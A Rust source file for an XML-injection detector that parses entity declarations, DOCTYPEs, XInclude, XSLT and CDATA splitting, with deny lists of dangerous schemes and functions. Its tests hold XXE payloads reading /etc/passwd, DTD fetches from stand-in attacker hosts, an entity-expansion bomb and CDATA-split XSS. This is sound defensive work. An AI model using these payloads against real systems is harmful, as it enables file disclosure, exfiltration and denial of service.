//! XML external entities, entity expansion, XInclude and XSLT injection.
//!
//! A request that reaches an XML parser with DTD processing can declare entities:
//! external ones (`<!ENTITY x SYSTEM "file:///etc/passwd">`) read files or fetch URLs,
//! parameter entities (`<!ENTITY % x SYSTEM "http://…"> %x;`) pull in a remote DTD for
//! blind exfiltration, and nested internal ones (`<!ENTITY lol2 "&lol1;&lol1;…">`)
//! expand exponentially. XInclude (`<xi:include href=…>`) and XSLT (`document(…)`,
//! `php:function`) reach the same resources without a DTD.
//!
//! The detector reads markup declarations rather than matching words: it parses each
//! `<!ENTITY` (optional `%`, also written `&#x25;`, a name, then `SYSTEM`/`PUBLIC` or
//! a literal), each `<!DOCTYPE name SYSTEM "uri">`, XInclude / XSLT elements, remote
//! `<?xml-stylesheet?>` instructions and `href` attributes naming local resources
//! (`xlink:href="file:///etc/passwd"`). It also flags markup smuggled through CDATA
//! sections (`<![CDATA[<]]>script<![CDATA[>]]>`), which XML-aware filters miss.
//! A benign document, a DOCTYPE without entities or one that names a DTD by a
//! relative path or a W3C public identifier does not fire; this matters because the
//! default rules also run this detector on whole XML request bodies.

use super::Detection;
use super::bytes::ByteSet;
use super::jndi::{find, on_renderings};

/// URI schemes that read local resources or run code when used as an entity system id.
const DANGEROUS_SCHEMES: &[&[u8]] = &[
    b"file:",
    b"php:",
    b"expect:",
    b"jar:",
    b"netdoc:",
    b"gopher:",
    b"data:",
    b"ftp:",
    b"dict:",
    b"ldap:",
    b"zip:",
    b"compress.zlib:",
    b"glob:",
    b"phar:",
];

/// XSLT functions and extensions that read files, fetch URLs or run code.
const XSLT_DANGERS: &[&[u8]] = &[
    b"document(",
    b"unparsed-text(",
    b"php:function",
    b"xmlns:php=",
    b"system-property(",
    b"xsl:include",
    b"xsl:import",
    b"rt:exec",
    b"runtime:",
];

/// Detects XXE, entity expansion, XInclude or XSLT injection in `input` (also read
/// decoded once more, for values the request parser leaves encoded).
pub fn xxe(input: &[u8]) -> Option<Detection> {
    on_renderings(input, detect)
}

fn detect(input: &[u8]) -> Option<Detection> {
    // Fast path: every shape is markup opened with `<` (`<!ENTITY`, `<!DOCTYPE`,
    // `<xi:include`, `<xsl:`, `<?xml-stylesheet`, `<![CDATA[`) or an attribute with `=`
    // (`href=`, `xmlns:xi=`).
    if !ByteSet::of(input).any_of(ByteSet::new(b"<=")) {
        return None;
    }
    let lower = input.to_ascii_lowercase();
    let found = [
        entities(&lower),
        doctype_external(&lower),
        xinclude(&lower),
        xslt(&lower),
        stylesheet_pi(&lower),
        external_reference(&lower),
        cdata_split(&lower),
    ]
    .into_iter()
    .flatten()
    .max_by(|a, b| a.0.total_cmp(&b.0))?;
    let (confidence, start, fingerprint) = found;
    let end = (start + MAX_SHOWN).min(input.len());
    Some(Detection::new(
        confidence,
        input.get(start..end).unwrap_or(input),
        fingerprint,
    ))
}

/// How much of the value from the finding on goes into the fragment.
const MAX_SHOWN: usize = 100;

/// Entity references inside internal entity values that make an expansion bomb.
const BOMB_REFERENCES: usize = 4;

type Found = (f64, usize, &'static str);

fn skip_spaces(s: &[u8], mut i: usize) -> usize {
    while s.get(i).is_some_and(u8::is_ascii_whitespace) {
        i += 1;
    }
    i
}

fn name_end(s: &[u8], mut i: usize) -> usize {
    while s.get(i).is_some_and(|&c| {
        !c.is_ascii_whitespace() && !matches!(c, b'"' | b'\'' | b'<' | b'>' | b'[' | b'%')
    }) {
        i += 1;
    }
    i
}

/// Reads quoted literals, remembering from where on a quote kind has no closing partner,
/// so that many unterminated literals do not each rescan the rest of the input.
#[derive(Default)]
struct Literals {
    /// For `"` and `'`: a position after which that quote never occurs again.
    exhausted_from: [Option<usize>; 2],
}

impl Literals {
    /// The quoted literal at `i`: its content and the index after it.
    fn at<'a>(&mut self, s: &'a [u8], i: usize) -> Option<(&'a [u8], usize)> {
        let quote = *s.get(i)?;
        let kind = match quote {
            b'"' => 0,
            b'\'' => 1,
            _ => return None,
        };
        if self
            .exhausted_from
            .get(kind)
            .copied()
            .flatten()
            .is_some_and(|e| e <= i)
        {
            return None;
        }
        let Some(close) = s.get(i + 1..)?.iter().position(|&c| c == quote) else {
            if let Some(slot) = self.exhausted_from.get_mut(kind) {
                *slot = Some(i);
            }
            return None;
        };
        Some((s.get(i + 1..i + 1 + close)?, i + close + 2))
    }
}

/// The strongest `<!ENTITY` declaration: external, parameter or internal; nested
/// internal ones that reference other entities many times are expansion bombs.
fn entities(lower: &[u8]) -> Option<Found> {
    let mut best: Option<Found> = None;
    let mut from = 0;
    let mut references = 0;
    let mut literals = Literals::default();
    while let Some(p) = find(lower, b"<!entity", from) {
        from = p + 8;
        let mut i = skip_spaces(lower, p + 8);
        let parameter = if lower.get(i) == Some(&b'%') {
            i += 1;
            true
        } else if let Some(n) = [&b"&#x25;"[..], b"&#37;"]
            .iter()
            .find(|n| lower.get(i..).is_some_and(|r| r.starts_with(n)))
        {
            i += n.len();
            true
        } else {
            false
        };
        let name_start = skip_spaces(lower, i);
        let after_name = name_end(lower, name_start);
        let def = skip_spaces(lower, after_name);
        let rest = lower.get(def..).unwrap_or_default();
        let found = if rest.starts_with(b"system") || rest.starts_with(b"public") {
            Some((
                0.95,
                p,
                if parameter {
                    "xxe:external-parameter-entity"
                } else {
                    "xxe:external-entity"
                },
            ))
        } else if let Some((value, _)) = literals.at(lower, def) {
            references += value.iter().filter(|&&c| c == b'&' || c == b'%').count();
            if parameter {
                Some((0.85, p, "xxe:parameter-entity"))
            } else {
                Some((0.7, p, "xxe:internal-entity"))
            }
        } else {
            None
        };
        if let Some(f) = found
            && best.is_none_or(|b| f.0 > b.0)
        {
            best = Some(f);
        }
    }
    if references >= BOMB_REFERENCES
        && let Some(b) = best.as_mut().filter(|b| b.0 < 0.9)
    {
        *b = (0.9, b.1, "xxe:entity-expansion");
    }
    best
}

/// `<!DOCTYPE root SYSTEM "uri">`: an external DTD with an absolute URI (a relative
/// file name or a W3C DTD is what benign documents use).
fn doctype_external(lower: &[u8]) -> Option<Found> {
    let mut from = 0;
    let mut literals = Literals::default();
    while let Some(p) = find(lower, b"<!doctype", from) {
        from = p + 9;
        let root = skip_spaces(lower, p + 9);
        let kw = skip_spaces(lower, name_end(lower, root));
        let rest = lower.get(kw..).unwrap_or_default();
        let uri = if rest.starts_with(b"system") {
            literals
                .at(lower, skip_spaces(lower, kw + 6))
                .map(|(u, _)| u)
        } else if rest.starts_with(b"public") {
            literals
                .at(lower, skip_spaces(lower, kw + 6))
                .and_then(|(_, after)| literals.at(lower, skip_spaces(lower, after)))
                .map(|(u, _)| u)
                .filter(|u| DANGEROUS_SCHEMES.iter().any(|s| u.starts_with(s)))
        } else {
            None
        };
        let Some(uri) = uri else {
            continue;
        };
        let absolute =
            DANGEROUS_SCHEMES.iter().any(|s| uri.starts_with(s)) || find(uri, b"://", 0).is_some();
        let standard = find(uri, b"w3.org/", 0).is_some();
        if absolute && !standard {
            return Some((0.85, p, "xxe:external-dtd"));
        }
    }
    None
}

/// XInclude elements: `<xi:include href="file:///etc/passwd"/>`.
fn xinclude(lower: &[u8]) -> Option<Found> {
    let p = find(lower, b":include", 0).filter(|&p| {
        let start = lower
            .get(..p)
            .unwrap_or_default()
            .iter()
            .rposition(|&c| c == b'<');
        start.is_some_and(|s| {
            p - s <= 16
                && lower
                    .get(s + 1..p)
                    .is_some_and(|ns| ns.iter().all(u8::is_ascii_alphanumeric))
        })
    });
    let ns = find(lower, b"xmlns:xi=", 0).filter(|_| find(lower, b"xinclude", 0).is_some());
    match (p, ns) {
        (Some(p), _) if find(lower, b"href", p).is_some() => {
            Some((0.9, p.saturating_sub(3), "xxe:xinclude"))
        }
        (_, Some(n)) => Some((0.8, n, "xxe:xinclude-namespace")),
        _ => None,
    }
}

/// XSLT stylesheets, worse when they read files or call extension functions.
fn xslt(lower: &[u8]) -> Option<Found> {
    let p = find(lower, b"<xsl:", 0)?;
    let element = lower.get(p + 5..).unwrap_or_default();
    if !element.first().is_some_and(u8::is_ascii_alphabetic) {
        return None;
    }
    let dangerous = XSLT_DANGERS.iter().any(|d| find(lower, d, 0).is_some());
    Some(if dangerous {
        (0.9, p, "xslt:dangerous")
    } else {
        (0.75, p, "xslt:stylesheet")
    })
}

/// `<?xml-stylesheet href="http://evil/x.xsl"?>`: a remote XSLT applied to the document.
fn stylesheet_pi(lower: &[u8]) -> Option<Found> {
    let p = find(lower, b"<?xml-stylesheet", 0)?;
    let end = find(lower, b"?>", p).unwrap_or(lower.len());
    let pi = lower.get(p..end)?;
    let href = find(pi, b"href", 0)?;
    let uri = pi.get(href + 4..)?;
    let uri = trim_quote(trim_start(trim_start(uri).strip_prefix(b"=")?));
    let remote = DANGEROUS_SCHEMES.iter().any(|s| uri.starts_with(s)) || uri.starts_with(b"http");
    remote.then_some((0.75, p, "xslt:remote-stylesheet"))
}

fn trim_start(s: &[u8]) -> &[u8] {
    s.get(skip_spaces(s, 0)..).unwrap_or_default()
}

fn trim_quote(s: &[u8]) -> &[u8] {
    s.strip_prefix(b"\"")
        .or_else(|| s.strip_prefix(b"'"))
        .unwrap_or(s)
}

/// A link attribute that reads a local resource: `<image xlink:href="file:///etc/passwd">`.
fn external_reference(lower: &[u8]) -> Option<Found> {
    let mut from = 0;
    while let Some(p) = find(lower, b"href", from) {
        from = p + 4;
        let Some(value) = lower.get(p + 4..) else {
            break;
        };
        let Some(value) = trim_start(value).strip_prefix(b"=") else {
            continue;
        };
        let uri = trim_quote(trim_start(value));
        if DANGEROUS_SCHEMES.iter().any(|s| uri.starts_with(s)) && uri.get(..5) != Some(b"data:") {
            return Some((0.75, p, "xml:local-reference"));
        }
    }
    None
}

/// Markup smuggled through CDATA: `<![CDATA[<]]>script<![CDATA[>]]>` or a word split
/// across adjacent sections (`javas]]><![CDATA[cript:`), which a filter reading the
/// raw text does not see but the parser reassembles.
fn cdata_split(lower: &[u8]) -> Option<Found> {
    let mut from = 0;
    while let Some(p) = find(lower, b"<![cdata[", from) {
        from = p + 9;
        let Some(close) = find(lower, b"]]>", from) else {
            break;
        };
        let content = lower.get(from..close).unwrap_or_default();
        // A lone bracket glued to a tag name; `]]]]><![CDATA[>` (escaping `]]>`) is not.
        let opens_tag = matches!(content, b"<" | b"</")
            && lower.get(close + 3).is_some_and(u8::is_ascii_alphabetic);
        let closes_tag = matches!(content, b">" | b"/>")
            && p.checked_sub(1)
                .and_then(|b| lower.get(b))
                .is_some_and(u8::is_ascii_alphabetic);
        let bracket = opens_tag || closes_tag;
        let adjacent = lower
            .get(close + 3..)
            .is_some_and(|r| r.starts_with(b"<![cdata["))
            && content.last().is_some_and(u8::is_ascii_alphabetic);
        if bracket || adjacent {
            return Some((0.75, p, "xml:cdata-split"));
        }
        from = close + 3;
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::test_support::{self, Hostile};

    #[test]
    fn attacks() {
        let cases: &[&str] = &[
            "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
            "<!DOCTYPE foo [<!ENTITY % x SYSTEM \"http://evil/x.dtd\"> %x;]>",
            "<!DOCTYPE r [<!ENTITY &#x25; file SYSTEM \"file:///etc/passwd\">]>",
            "<!DOCTYPE data SYSTEM \"http://attacker.example/evil.dtd\"><data>&send;</data>",
            "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;\">]><lolz>&lol1;</lolz>",
            "<!DOCTYPE xxe [<!ENTITY foo \"aaaaaa\">]><root>&foo;</root>",
            "<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>",
            "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:copy-of select=\"document('/etc/passwd')\"/></xsl:stylesheet>",
            "%3C!DOCTYPE%20foo%20%5B%3C!ENTITY%20xxe%20SYSTEM%20%22file:///etc/passwd%22%3E%5D%3E",
            "<!ENTITY xxe SYSTEM \"expect://id\">",
            "<?xml-stylesheet type=\"text/xsl\" href=\"http://evil.example/x.xsl\"?><a/>",
            "<svg><image xlink:href=\"file:///etc/passwd\"/></svg>",
            "<foo><![CDATA[<]]>SCRIPT<![CDATA[>]]>alert('XSS');<![CDATA[<]]>/SCRIPT<![CDATA[>]]></foo>",
            "<C><![CDATA[<IMG SRC=\"javas]]><![CDATA[cript:alert('XSS');\">]]>",
        ];
        test_support::assert_detects_all(xxe, cases);
        let bomb =
            xxe(b"<!DOCTYPE l [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]>").expect("bomb");
        assert!(bomb.confidence >= 0.9);
    }

    #[test]
    fn benign() {
        let cases: &[&str] = &[
            "O'Reilly and sons",
            "select a size",
            "rock & roll",
            "1 or 2 items",
            ":-) ;-) (^_^) <3",
            "C++ Primer (5th Edition) by Lippman",
            "Node.js & Express: {fast} (2nd ed.)",
            "http://example.com/search?q=a+b&page=2#top",
            "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
            "Calle Mayor 5, 3º B, 28013 Madrid",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>1</id><note>fast &amp; cheap</note></order>",
            "<!DOCTYPE html><html><body>hi</body></html>",
            "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">",
            "<!DOCTYPE note SYSTEM \"Note.dtd\"><note>x</note>",
            "<!DOCTYPE note [<!ELEMENT note (#PCDATA)>]><note>x</note>",
            "<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">",
            "the entity said: include me",
            "http://example.com/?a=<!entity",
            "<a href=\"https://example.com/\">x</a>",
            "<note><![CDATA[<p>Hello]]></note>",
            "<a><![CDATA[x]]]]><![CDATA[>]]></a>",
            "user@example.com",
        ];
        test_support::assert_passes_all(xxe, cases);
    }

    #[test]
    fn hostile_inputs_do_not_panic() {
        test_support::assert_total(
            xxe,
            Hostile {
                fixed: vec![
                    b"<!ENTITY ".repeat(20_000),
                    b"<!ENTITY a \"".repeat(20_000),
                    b"<!DOCTYPE a SYSTEM '".repeat(10_000),
                    b"<a:include".repeat(10_000),
                    b"<".repeat(100_000),
                    b"<xsl:a".repeat(10_000),
                ],
                // Every truncation of a payload that exercises most of the scanner.
                sample: b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://x/\"> %p;<!ENTITY a \"&b;&b;\">]><xi:include href=\"file:///x\"/><![CDATA[<]]>s",
                alphabet: b"<!ENTITYDOCTYPE %\"'>[]SYSTEMfile:xi:include&;",
                seed: 0xFEED_FACE_0BAD_F00D,
                count: 3000,
                max_len: 48,
            },
        );
    }
}
